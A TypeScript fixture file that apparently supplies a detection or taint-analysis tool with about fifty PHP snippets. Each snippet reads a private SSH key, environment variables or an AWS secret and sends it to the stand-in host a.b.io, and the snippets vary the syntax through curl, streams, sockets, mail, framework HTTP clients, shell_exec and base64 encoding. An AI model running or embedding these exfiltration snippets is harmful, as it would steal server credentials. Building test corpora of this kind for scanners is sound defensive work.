import type { Constructs } from './constructs.js';

export const PHP: Constructs = {
  language: 'php',
  head: '<?php\n$U="https://a.b.io/x";$K="/root/.ssh/id_rsa";\n',
  cases: [
    ['plain', '$c=curl_init($U);curl_setopt($c,CURLOPT_POSTFIELDS,file_get_contents($K));curl_exec($c);'],
    ['array opts', '$c=curl_init();curl_setopt_array($c,[CURLOPT_URL=>$U,CURLOPT_POSTFIELDS=>file_get_contents($K)]);curl_exec($c);'],
    ['stream ctx', 'file_get_contents($U,false,stream_context_create(["http"=>["method"=>"POST","content"=>file_get_contents($K)]]));'],
    ['get query', 'file_get_contents($U."?t=".urlencode(file_get_contents($K)));'],
    ['interp', '$t=file_get_contents($K);$c=curl_init($U);curl_setopt($c,CURLOPT_POSTFIELDS,"a{$t}");curl_exec($c);'],
    ['function', 'function s($u,$b){$c=curl_init($u);curl_setopt($c,CURLOPT_POSTFIELDS,$b);curl_exec($c);} s($U,file_get_contents($K));'],
    [
      'closure use',
      '$t=file_get_contents($K);$f=function() use($t,$U){$c=curl_init($U);curl_setopt($c,CURLOPT_POSTFIELDS,$t);curl_exec($c);};$f();',
    ],
    ['arrow fn', '$t=file_get_contents($K);$f=fn()=>$t;$c=curl_init($U);curl_setopt($c,CURLOPT_POSTFIELDS,$f());curl_exec($c);'],
    [
      'global',
      '$t=file_get_contents($K);function s(){global $t,$U;$c=curl_init($U);curl_setopt($c,CURLOPT_POSTFIELDS,$t);curl_exec($c);} s();',
    ],
    [
      'global set',
      'function g(){global $t,$K;$t=file_get_contents($K);} g();$c=curl_init($U);curl_setopt($c,CURLOPT_POSTFIELDS,$t);curl_exec($c);',
    ],
    ['GLOBALS', '$GLOBALS["t"]=file_get_contents($K);$c=curl_init($U);curl_setopt($c,CURLOPT_POSTFIELDS,$GLOBALS["t"]);curl_exec($c);'],
    [
      'class',
      'class A{private $t;function __construct($k){$this->t=file_get_contents($k);}function go($U){$c=curl_init($U);curl_setopt($c,CURLOPT_POSTFIELDS,$this->t);curl_exec($c);}} (new A($K))->go($U);',
    ],
    [
      'static',
      'class A{static function t($K){return file_get_contents($K);}} $c=curl_init($U);curl_setopt($c,CURLOPT_POSTFIELDS,A::t($K));curl_exec($c);',
    ],
    [
      'const',
      'class A{const K="/root/.ssh/id_rsa";} $c=curl_init($U);curl_setopt($c,CURLOPT_POSTFIELDS,file_get_contents(A::K));curl_exec($c);',
    ],
    [
      'trait',
      'trait M{function t($K){return file_get_contents($K);}} class A{use M;} $c=curl_init($U);curl_setopt($c,CURLOPT_POSTFIELDS,(new A)->t($K));curl_exec($c);',
    ],
    [
      'inherit',
      'class B{function go($U,$K){$c=curl_init($U);curl_setopt($c,CURLOPT_POSTFIELDS,$this->t($K));curl_exec($c);}} class A extends B{function t($K){return file_get_contents($K);}} (new A)->go($U,$K);',
    ],
    ['array_map', '$t=array_map("file_get_contents",[$K]);$c=curl_init($U);curl_setopt($c,CURLOPT_POSTFIELDS,$t[0]);curl_exec($c);'],
    [
      'array_map fn',
      '$t=array_map(fn($k)=>file_get_contents($k),[$K]);$c=curl_init($U);curl_setopt($c,CURLOPT_POSTFIELDS,implode($t));curl_exec($c);',
    ],
    ['foreach', 'foreach([$K] as $k){$c=curl_init($U);curl_setopt($c,CURLOPT_POSTFIELDS,file_get_contents($k));curl_exec($c);}'],
    [
      'foreach kv',
      'foreach(["a"=>file_get_contents($K)] as $k=>$v){$c=curl_init($U);curl_setopt($c,CURLOPT_POSTFIELDS,$v);curl_exec($c);}',
    ],
    ['list', '[$a,$b]=[1,file_get_contents($K)];$c=curl_init($U);curl_setopt($c,CURLOPT_POSTFIELDS,$b);curl_exec($c);'],
    ['list()', 'list($a,$b)=[1,file_get_contents($K)];$c=curl_init($U);curl_setopt($c,CURLOPT_POSTFIELDS,$b);curl_exec($c);'],
    ['ternary', '$t=1?file_get_contents($K):"";$c=curl_init($U);curl_setopt($c,CURLOPT_POSTFIELDS,$t);curl_exec($c);'],
    ['elvis', '$t=null?:file_get_contents($K);$c=curl_init($U);curl_setopt($c,CURLOPT_POSTFIELDS,$t);curl_exec($c);'],
    ['??=', '$t??=file_get_contents($K);$c=curl_init($U);curl_setopt($c,CURLOPT_POSTFIELDS,$t);curl_exec($c);'],
    ['.=', '$t="";$t.=file_get_contents($K);$c=curl_init($U);curl_setopt($c,CURLOPT_POSTFIELDS,$t);curl_exec($c);'],
    ['array push', '$a=[];$a[]=file_get_contents($K);$c=curl_init($U);curl_setopt($c,CURLOPT_POSTFIELDS,json_encode($a));curl_exec($c);'],
    [
      'array merge',
      '$a=array_merge(["n"=>1],["t"=>file_get_contents($K)]);$c=curl_init($U);curl_setopt($c,CURLOPT_POSTFIELDS,http_build_query($a));curl_exec($c);',
    ],
    [
      'generator',
      'function g($K){yield file_get_contents($K);} foreach(g($K) as $t){$c=curl_init($U);curl_setopt($c,CURLOPT_POSTFIELDS,$t);curl_exec($c);}',
    ],
    ['fopen', '$h=fopen($K,"r");$t=fread($h,9999);$c=curl_init($U);curl_setopt($c,CURLOPT_POSTFIELDS,$t);curl_exec($c);'],
    ['fgets', '$h=fopen($K,"r");while($l=fgets($h)){$c=curl_init($U);curl_setopt($c,CURLOPT_POSTFIELDS,$l);curl_exec($c);}'],
    ['file', '$t=implode(file($K));$c=curl_init($U);curl_setopt($c,CURLOPT_POSTFIELDS,$t);curl_exec($c);'],
    ['SplFileObject', '$f=new SplFileObject($K);$c=curl_init($U);curl_setopt($c,CURLOPT_POSTFIELDS,$f->fread(99));curl_exec($c);'],
    [
      'glob',
      'foreach(glob("/root/.ssh/*") as $f){$c=curl_init($U);curl_setopt($c,CURLOPT_POSTFIELDS,file_get_contents($f));curl_exec($c);}',
    ],
    ['shell_exec', '$t=shell_exec("cat $K");$c=curl_init($U);curl_setopt($c,CURLOPT_POSTFIELDS,$t);curl_exec($c);'],
    ['backtick', '$t=`cat $K`;$c=curl_init($U);curl_setopt($c,CURLOPT_POSTFIELDS,$t);curl_exec($c);'],
    ['base64', '$c=curl_init($U);curl_setopt($c,CURLOPT_POSTFIELDS,base64_encode(gzcompress(file_get_contents($K))));curl_exec($c);'],
    ['sprintf', '$c=curl_init($U);curl_setopt($c,CURLOPT_POSTFIELDS,sprintf("%s",file_get_contents($K)));curl_exec($c);'],
    ['fsockopen', '$s=fsockopen("ssl://a.b.io",443);fwrite($s,file_get_contents($K));'],
    ['mail', 'mail("a@b.io","s",file_get_contents($K));'],
    ['guzzle', '$c=new GuzzleHttp\\Client();$c->post($U,["json"=>["t"=>file_get_contents($K)]]);'],
    ['laravel', 'use Illuminate\\Support\\Facades\\Http;\nHttp::post($U,["t"=>file_get_contents($K)]);'],
    ['wp', 'wp_remote_post($U,["body"=>["t"=>file_get_contents($K)]]);'],
    ['call_user_func', '$t=call_user_func("file_get_contents",$K);$c=curl_init($U);curl_setopt($c,CURLOPT_POSTFIELDS,$t);curl_exec($c);'],
    ['env', '$c=curl_init($U);curl_setopt($c,CURLOPT_POSTFIELDS,json_encode(getenv()));curl_exec($c);'],
    ['getenv one', '$c=curl_init($U);curl_setopt($c,CURLOPT_POSTFIELDS,getenv("AWS_SECRET_ACCESS_KEY"));curl_exec($c);'],
    [
      'register_shutdown',
      'register_shutdown_function(function() use($U,$K){$c=curl_init($U);curl_setopt($c,CURLOPT_POSTFIELDS,file_get_contents($K));curl_exec($c);});',
    ],
    [
      'usort cb',
      'array_walk($a=[file_get_contents($K)],function($v) use($U){$c=curl_init($U);curl_setopt($c,CURLOPT_POSTFIELDS,$v);curl_exec($c);});',
    ],
    [
      'nullsafe',
      'class A{public $t;} $a=new A;$a->t=file_get_contents($K);$c=curl_init($U);curl_setopt($c,CURLOPT_POSTFIELDS,$a?->t);curl_exec($c);',
    ],
    [
      'stdClass',
      '$o=new stdClass;$o->t=file_get_contents($K);$c=curl_init($U);curl_setopt($c,CURLOPT_POSTFIELDS,json_encode($o));curl_exec($c);',
    ],
    [
      'try',
      'try{$t=file_get_contents($K);}catch(Exception $e){$t="";}finally{$c=curl_init($U);curl_setopt($c,CURLOPT_POSTFIELDS,$t);curl_exec($c);}',
    ],
    [
      'spread',
      'function s(...$a){$c=curl_init("https://a.b.io/x");curl_setopt($c,CURLOPT_POSTFIELDS,$a[0]);curl_exec($c);} s(file_get_contents($K));',
    ],
    [
      'promoted',
      'class A{function __construct(private string $t){}function go($U){$c=curl_init($U);curl_setopt($c,CURLOPT_POSTFIELDS,$this->t);curl_exec($c);}} (new A(file_get_contents($K)))->go($U);',
    ],
    [
      'named arg',
      'function s($u,$b){$c=curl_init($u);curl_setopt($c,CURLOPT_POSTFIELDS,$b);curl_exec($c);} s(b: file_get_contents($K), u: $U);',
    ],
    [
      'final class with typed fields',
      "final class A{private ?string $u='https://a.b.io/x';public function go(array $d): void{@file_get_contents($this->u,false,stream_context_create(['http'=>['method'=>'POST','content'=>json_encode($d)]]));}} (new A())->go(['x'=>file_get_contents($K)]);",
    ],
  ],
};
